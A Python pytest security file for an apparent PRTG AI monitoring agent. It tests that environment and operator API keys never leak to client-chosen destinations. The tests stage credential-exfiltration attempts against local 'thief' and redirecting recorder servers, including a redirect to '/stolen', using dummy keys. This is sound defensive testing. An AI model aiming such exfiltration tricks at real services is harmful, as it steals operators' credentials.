"""Attack 1: a token holder points inference at its own server to receive the agent's API key.

Real parts: the agent on 127.0.0.1 with the keys in its environment, recording
servers that log every header they get (one redirects to another), and a model
server that needs the operator's key (given with --api-key-file).
"""

from __future__ import annotations

from pathlib import Path

from security.sec_support import Recorder, attack, leak_check, ok, text_of
from fakes.inference_server import FakeModelServer

ENV_KEY = "sk-env-openai-key-0123456789abcdef"
ENV_KEY2 = "prtg-ai-inference-env-key-fedcba9876"
OPERATOR_KEY = "operator-vllm-key-00112233445566"
PAGE = (Path(__file__).resolve().parents[1] / "testcases" / "inference" / "vllm" / "metrics.1.prom").read_text()


def test_01_env_keys_never_reach_a_client_chosen_destination(agent, tmp_path):
    key_file = tmp_path / "vllm.key"
    key_file.write_text(OPERATOR_KEY + "\n")
    with FakeModelServer(page=PAGE, require_key=OPERATOR_KEY) as legit, \
            Recorder() as thief, \
            Recorder(lambda path: (302, {"Location": thief.url + "/stolen"}, b"")) as bouncer:
        a = agent(env={"OPENAI_API_KEY": ENV_KEY, "PRTG_AI_INFERENCE_API_KEY": ENV_KEY2},
                  sensors=["inference", "checkpoint_volume"], api_keys={legit.url: OPERATOR_KEY})
        tries = [
            {"url": thief.url},                                              # metrics GET
            {"url": thief.url, "kind": "openai"},                            # /v1/models + probe POST
            {"url": thief.url, "probe_prompt": "hi", "model": "m"},          # probe POST
            {"url": legit.url, "metrics_url": thief.url + "/metrics"},       # key for legit, page elsewhere
            {"url": bouncer.url},                                            # redirect to the thief
            {"url": bouncer.url, "kind": "openai"},
            {"url": legit.url, "metrics_url": bouncer.url + "/metrics"},
        ]
        for params in tries:
            attack()
            doc, raw = a.sensor("inference", params)
            for key in (ENV_KEY, ENV_KEY2, OPERATOR_KEY):
                leak_check(key not in thief.headers_seen() and key not in bouncer.headers_seen(),
                           f"a key reached a client-chosen server with {params}")
                leak_check(key not in raw, "a key was echoed")
        assert thief.seen, "the thief's server was contacted (it is on loopback, which is allowed)"
        assert all("Authorization" not in h for _, _, h in thief.seen + bouncer.seen)
        assert not any(p == "/stolen" for _, p, _ in thief.seen), "a redirect was followed"

        # The legitimate poll: the operator's key goes to its own origin, and the metrics arrive.
        doc, _ = a.sensor("inference", {"url": legit.url})
        assert ok(doc), text_of(doc)
        assert {c["channel"] for c in doc["prtg"]["result"]} >= {"Requests Running", "KV Cache Usage"}
        assert legit.requests[-1][2].get("Authorization") == f"Bearer {OPERATOR_KEY}"


def test_01_destinations_outside_allow_url_are_not_contacted(agent):
    with Recorder() as thief:
        a = agent(sensors=["inference"], allow_urls=["10.0.0.0/8"])  # loopback no longer allowed
        attack()
        doc, _ = a.sensor("inference", {"url": thief.url})
        assert not ok(doc) and "url" in text_of(doc)
        leak_check(thief.seen == [], "a refused destination was contacted")


def test_01_inference_is_opt_in(agent):
    with Recorder() as thief:
        a = agent(env={"OPENAI_API_KEY": ENV_KEY})  # default --sensors: node-local only
        attack()
        answer = a.get("/sensors/inference", {"url": thief.url})
        assert answer.status_code == 404 and "serves" in answer.text
        leak_check(thief.seen == [], "inference ran although not served")
        doc, _ = a.sensor("checkpoint_volume", {"path": str(Path(__file__).parent)})
        assert ok(doc)


def test_01_serve_rejects_unusable_destination_settings(tmp_path):
    import subprocess
    import sys

    from support import cli_env

    env = cli_env(tmp_path / "state")
    for args, why in ((["--allow-url", "not-a-network"], "--allow-url"),
                      (["--sensors", "gpu,no_such_sensor"], "--sensors"),
                      (["--api-key-file", "nonsense"], "--api-key-file"),
                      (["--api-key-file", f"ftp://x:1={tmp_path}/k"], "--api-key-file")):
        (tmp_path / "k").write_text("key-0123456789\n")
        proc = subprocess.run([sys.executable, "-m", "prtg_ai.cli", "serve", "--listen", "127.0.0.1:0", *args],
                              capture_output=True, text=True, env=env, timeout=60)
        assert proc.returncode != 0 and why in proc.stderr, (args, proc.stderr)
        assert "Traceback" not in proc.stderr
